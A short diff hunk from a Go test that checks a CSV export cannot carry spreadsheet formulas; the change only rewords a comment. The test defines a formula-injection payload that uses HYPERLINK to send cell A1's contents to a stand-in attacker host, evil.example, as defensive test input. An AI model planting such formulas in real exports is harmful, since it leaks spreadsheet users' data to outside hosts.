@@ -58,7 +58,7 @@ func TestExport(t *testing.T) {
 	}
 }
 
-// Excel opens the CSV as UTF-8, and no cell is a formula, wherever a system takes the start of a cell to be.
+// Excel opens the CSV as UTF-8, and no cell is a formula, whatever separator the system uses.
 func TestExportCSVIsHarmless(t *testing.T) {
 	const formula = `=HYPERLINK("http://evil.example/?"&A1)`
 	for text, want := range map[string]string{
